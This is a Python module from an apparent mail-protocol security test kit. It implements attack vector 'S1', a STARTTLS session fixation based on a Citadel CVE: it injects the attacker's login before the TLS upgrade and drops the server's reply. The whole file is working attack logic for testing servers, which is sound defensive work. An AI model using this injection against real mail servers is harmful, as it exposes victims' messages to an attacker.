"""Session fixation, S1: the victim's TLS session is put into a login that the attacker made before it.

RFC 3207 §4.2: the server must forget what it knew; RFC 9051 §6.2.1 and RFC 2595 §4: STARTTLS is refused after a login.
"""

from typing import ClassVar

from labkit.attacks import speech
from labkit.attacks.account import NAME, PASSWORD
from labkit.attacks.actions import Drop, Inject, Pass
from labkit.attacks.vector import Answered, Line, Vector
from labkit.attacks.vectors.buffering import MARK
from labkit.dialects.base import SERVER


class SessionFixation(Vector):
    """Logs in with the attacker's own account just before STARTTLS: what the victim then sends or stores is hers."""

    id = "S1"
    source = "CVE-2021-37845 (Citadel)"
    marks = (MARK,)  # as it stands in a mail that lies in her inbox
    server: ClassVar = {"auth": "always", "quirks": ("keeps the login",)}

    def on_line(self, line: Line) -> Answered:
        if speech.upgrades(line):
            return Inject(SERVER, line.dialect.writes.login(NAME, PASSWORD, NAME)), Pass()
        command = speech.asked(line)
        if line.kind in ("reply", "untagged") and command is not None and speech.upgrades(command):
            return Drop()  # the answer to the login, which the victim has not asked for
        return None
